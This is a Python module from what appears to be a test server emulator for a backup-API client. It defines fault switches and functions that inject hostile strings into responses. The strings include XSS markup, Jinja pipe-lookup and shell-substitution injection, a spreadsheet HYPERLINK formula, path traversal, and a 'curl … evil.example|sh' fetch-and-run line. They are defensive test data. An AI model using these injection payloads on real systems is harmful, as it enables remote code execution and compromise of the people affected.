# -*- coding: utf-8 -*-
# Copyright: (c) 2026, vb365.backup contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Fault switches: how the emulated server misbehaves, and the hostile data it can send."""

from __future__ import annotations

import argparse
import json


FAULT_DEFAULTS = {
    'expire_tokens_after': 0,       # an access token works for N authenticated requests, then 401
    'token_429': 0,                 # the next N POST /token answer 429
    'token_429_retry_after': 1,     # Retry-After sent with those (null: none)
    'server_errors': 0,             # the next N API requests (not /token) answer server_error_status
    'server_error_status': 503,
    'server_error_retry_after': None,
    'delay_seconds': 0.0,           # every API response waits this long first
    'close_mid_body': 0,            # the next N LogItems responses stop half-way and close the connection
    'html_errors': 0,               # the next N API requests get a proxy's HTML 502 page
    'page_cap': 0,                  # pages hold at most N items, whatever limit was asked (0: 10,000)
    'append_per_page': 0,           # each LogItems page of a running session adds N new items
    'token_rate_limit': True,       # 1 login a second and 5 a minute, as the real /token
    'outdate_change_tokens': 0,     # the next N change-feed requests with a token answer OutdatedChangeToken
    # A hostile or broken server: data that must stay data (see hostile_text and docs/emulator.md).
    'hostile_text': None,           # a marker path: every name, details, message and title carries hostile_text()
    'hostile_ids': False,           # session objects carry a hostile text instead of their UUID id
    'hostile_usn': False,           # log items carry HTML instead of their usn number
    # Job actions (POST /vN/Jobs/{id}/start, see docs/emulator.md): how a job started through the API runs.
    'job_run_seconds': 2.0,         # a started job's session runs this long, then ends
    'job_run_status': 'Success',    # with this status: Success, Warning, Failed or Stopped
    'job_start_answer_delay': 0.0,  # a start's answer is sent this many seconds after the job has started
    # Retention deleting a session between the feed's word of it and the client's read of it.
    'vanish_on_finish': 0,          # the next N sessions that finish are announced, then answer 404
    # A broken or hostile transport (a proxy, a load balancer, a server that loops).
    'redirect_token': None,         # a URL: POST /token answers 307 with this Location
    'echo_login_errors': False,     # a refused login's error_description echoes the request body
    'drip_seconds': 0.0,            # API answers (not /_emulator) are sent one byte every this many seconds
    'ignore_offset': False,         # LogItems always answer the first page, with a next link
    'invent_items': False,          # LogItems answer a full page of new items at any offset, with a next link
}

# Text keys the server fills from what tenants and admins typed (names, texts, messages).
HOSTILE_TEXT_KEYS = ('name', 'description', 'details', 'message', 'title', 'displayName', 'officeName')


def hostile_text(marker):
    """A text that is harmless only if every consumer treats it as data.

    It starts a spreadsheet formula, carries Jinja that would create ``marker`` if templated, HTML that
    would run a script, Markdown table, heading and link syntax, a bare carriage return, a shell
    command and a lone surrogate (valid JSON, not encodable as UTF-8).
    """
    return ('=HYPERLINK("https://evil.example/x","open")|{{ lookup(\'pipe\', \'touch %s\') }}{# hostile #}'
            '<img src=x onerror="document.title=\'pwned\'"><script>document.title=\'pwned\'</script>'
            ' | cell\r# Injected heading\n[click](https://evil.example) $(touch %s) \ud800 ' % (marker, marker))


def hostile_id(marker):
    return "../{{ lookup('pipe', 'touch %s') }};curl${IFS}-s${IFS}evil.example|sh <img src=x>" % marker


def make_hostile(body, faults):
    """The body with the hostile faults applied to every object in it (a copy; the world is unchanged)."""
    marker = faults.get('hostile_text')
    if isinstance(body, list):
        return [make_hostile(item, faults) for item in body]
    if not isinstance(body, dict):
        return body
    changed = {}
    for key, value in body.items():
        if isinstance(value, (dict, list)):
            value = make_hostile(value, faults)
        elif marker and key in HOSTILE_TEXT_KEYS and isinstance(value, str):
            if key == 'title' and value.startswith('['):
                status, _sep, rest = value.partition('] ')
                value = '%s] %s%s' % (status, hostile_text(marker), rest)
            else:
                value = hostile_text(marker) + value
        changed[key] = value
    if faults.get('hostile_ids') and 'retryCount' in changed and 'id' in changed:
        changed['id'] = hostile_id(marker or '/tmp/vb365-hostile-id')
    if faults.get('hostile_usn') and 'usn' in changed:
        changed['usn'] = '<img src=x onerror="document.title=\'pwned\'">%s' % changed['usn']
    return changed


def is_hostile(faults):
    return bool(faults.get('hostile_text') or faults.get('hostile_ids') or faults.get('hostile_usn'))


def parse_fault(text):
    name, _sep, value = text.partition('=')
    if name not in FAULT_DEFAULTS:
        raise argparse.ArgumentTypeError('unknown fault %r; known: %s' % (name, ', '.join(sorted(FAULT_DEFAULTS))))
    return name, json.loads(value) if value else True
